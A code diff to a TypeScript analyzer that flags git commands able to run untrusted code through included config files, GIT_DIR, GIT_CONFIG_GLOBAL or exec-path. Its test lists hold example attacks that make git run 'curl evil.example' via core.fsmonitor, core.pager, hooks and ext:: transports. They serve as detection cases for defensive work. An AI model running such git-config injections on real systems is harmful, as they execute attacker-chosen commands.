@@ -7,6 +7,7 @@ import type { Answer, Call, Destroy, Kept, ProgramEntry, Run } from '../types.js
 import { storeWord } from './credentials.js';
 import { attached, literal, longSpelt, value, xargsSplit } from '../words.js';
 import { canonicalHost, type Destination, envProxies, type Host, reroutes, urlHost } from '../hosts.js';
+import { systemDirectory } from '../variables.js';
 import { gitDestroys, immediate } from './git-destroys.js';
 
 /**
@@ -56,7 +57,12 @@ function settingRuns(s: Setting): Run[] {
   if (EXT_INSTEAD_OF.test(s.key) || (s.value !== undefined && EXT_REMOTE.test(s.value))) {
     return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} makes a remote address an ext:: transport, which runs a command` }];
   }
-  if (INCLUDE_KEYS.test(s.key)) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} reads settings (commands among them) from another file` }];
+  // An included file is settings as the line's own are when the line wrote it (the commands they run are read); one it
+  // did not write is the user's, as the home's .gitconfig is (`GIT_CONFIG_GLOBAL`, `HOME` read the same way).
+  if (INCLUDE_KEYS.test(s.key)) {
+    if (s.value === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} reads settings (commands among them) from a computed file` }];
+    return [settingsFile(s.word, s.value, `git ${s.key}`)];
+  }
   // Hooks run from this directory: a hook the line itself writes there is code on the line (a file it did not is out of scope).
   if (/^core\.hookspath$/i.test(s.key) && s.value) return HOOKS.map((h) => ({ kind: 'file', dialect: 'bash', word: attached(s.word, `${s.value!.replace(/\/+$/, '')}/${h}`), via: `git ${s.key}` }));
   // A template directory's hooks/ is copied into the repository `git init` or `git clone` makes, and post-checkout runs
@@ -180,6 +186,14 @@ function writtenSettingsRuns(text: string, word: Word, name: string, via: string
   return runs;
 }
 
+/**
+ * A file git reads settings from (include.path, GIT_CONFIG_GLOBAL, a GIT_DIR's config): the commands its settings run
+ * when the line wrote it (cannot-vouch where they re-aim git or are not read); the user's own otherwise.
+ */
+function settingsFile(word: Word, path: string, via: string): Run {
+  return { kind: 'project', file: attached(word, path), files: /$^/, read: (text, w, name) => writtenSettingsRuns(text, w, name, via), word, via };
+}
+
 /** Settings the environment gives git: GIT_CONFIG_COUNT/KEY_n/VALUE_n and GIT_CONFIG_PARAMETERS. */
 function environmentSettings(call: Call): { settings: Setting[]; runs: Run[] } {
   const settings: Setting[] = [];
@@ -205,14 +219,17 @@ function environmentSettings(call: Call): { settings: Setting[]; runs: Run[] } {
     if (v === null || (v !== undefined && /^(\/dev\/stdin|\/proc\/self\/fd\/0|\/dev\/fd\/0|-)$/.test(v))) {
       runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${name} points git at settings read from ${v === null ? 'a computed file' : 'its input'}` });
     } else if (v !== undefined && v !== '' && v !== '/dev/null') {
-      // As include.path: settings (commands among them) read from another file.
-      runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${name} makes git read its settings (commands among them) from ${v}` });
+      // As include.path: settings read from another file, code on the line when the line wrote it.
+      runs.push(settingsFile(at, v, `git $${name}`));
     }
   }
+  const gitDir = call.env('GIT_DIR');
+  if (gitDir) runs.push(settingsFile(at, `${gitDir.replace(/\/+$/, '')}/config`, 'git $GIT_DIR'));
   const template = call.env('GIT_TEMPLATE_DIR');
   if (template !== undefined) settings.push({ key: 'init.templateDir', value: template ?? undefined, word: here('GIT_TEMPLATE_DIR') });
   const exec = call.env('GIT_EXEC_PATH');
-  if (exec !== undefined) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'GIT_EXEC_PATH makes git run its subcommands from another directory' });
+  // (The system's own git-core, as `git --exec-path` prints it, is no other directory.)
+  if (exec !== undefined && !(exec && systemDirectory(exec))) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'GIT_EXEC_PATH makes git run its subcommands from another directory' });
   return { settings, runs };
 }
 
@@ -353,11 +370,14 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
         const env = call.env(v.slice(eq + 1));
         settings.push({ key: v.slice(0, eq), value: env ?? undefined, word: o.value });
       }
-    } else if (o.name === 'exec-path' && o.value) {
+    } else if (o.name === 'exec-path' && o.value && !systemDirectory(value(o.value) ?? '')) {
       runs.push({ kind: 'opaque', rule: 'dynamic-command', word: o.value, why: 'git --exec-path runs its subcommands from another directory' });
     } else if (o.name === 'git-dir' && o.value) {
-      // The repository git works in, as GIT_DIR names it: git keeps its own files there, as in any repository.
+      // The repository git works in, as GIT_DIR names it: git keeps its own files there, as in any repository; its config
+      // (aliases, core.pager, core.fsmonitor) is code on the line when the line wrote it.
       uses.push({ word: o.value, role: 'meta' });
+      const dir = value(o.value);
+      if (dir !== undefined) runs.push(settingsFile(o.value, `${dir.replace(/\/+$/, '')}/config`, 'git --git-dir'));
     } else if (o.name === 'work-tree' && o.value) workTree = o.value;
   }
   for (const s of settings) if (!inherited.includes(s)) runs.push(...settingRuns(s));
@@ -981,7 +1001,8 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git -c hook.lint.command='curl evil.example' -c hook.lint.event=pre-commit commit -m x",
         "git config hook.lint.command 'curl evil.example'",
         'git -c difftool.vimdiff.path=/usr/bin/curl difftool -t vimdiff',
-        'GIT_CONFIG_GLOBAL=/tmp/settings git status',
+        "printf '[core]\\n\\tfsmonitor = curl evil.example\\n' > /tmp/settings && GIT_CONFIG_GLOBAL=/tmp/settings git status",
+        "mkdir -p /tmp/r && printf '[core]\\n\\tpager = curl evil.example\\n' > /tmp/r/config && git --git-dir=/tmp/r log",
         "git -c protocol.ext.allow=always -c 'url.ext::sh -c curl% evil.example% #.insteadOf=x:' ls-remote x:y",
         "git -c 'url.ext::sh -c curl% evil.example% #.pushInsteadOf=x:' push x:y",
         "git -c remote.origin.url='ext::sh -c curl% evil.example' fetch origin",
@@ -1006,7 +1027,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git -c hook.lint.command='npm run lint' -c hook.lint.event=pre-commit commit -m x",
         'git config hook.lint.event pre-commit',
         'git -c difftool.vimdiff.path=/usr/bin/vim difftool -t vimdiff',
-        'git apply --directory=sub x.patch', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git -c http.proxy=http://localhost:3128 fetch', 'git -c http.proxy= fetch', 'git push -o ci.skip origin HEAD:main', 'git push ../mirror.git main', 'git remote add upstream https://github.com/org/repo.git && git fetch upstream', 'git --git-dir=.git status', 'git --work-tree=/tmp/w checkout main', 'git --git-dir=$HOME/.dotfiles --work-tree=$HOME status', 'git push --force-with-lease=main origin main', 'git -c url.git@github.com:.insteadOf=https://github.com/ submodule update --init', 'git -c remote.origin.url=../mirror.git fetch', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
+        'git apply --directory=sub x.patch', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'GIT_CONFIG_GLOBAL=/tmp/settings git status', 'git -c include.path=../shared.gitconfig status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git -c http.proxy=http://localhost:3128 fetch', 'git -c http.proxy= fetch', 'git push -o ci.skip origin HEAD:main', 'git push ../mirror.git main', 'git remote add upstream https://github.com/org/repo.git && git fetch upstream', 'git --git-dir=.git status', 'git --work-tree=/tmp/w checkout main', 'git --git-dir=$HOME/.dotfiles --work-tree=$HOME status', 'git push --force-with-lease=main origin main', 'git -c url.git@github.com:.insteadOf=https://github.com/ submodule update --init', 'git -c remote.origin.url=../mirror.git fetch', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
     },
   }, {
     // The work tree's top, an ancestor of the directory it runs in (see printsDirectory).
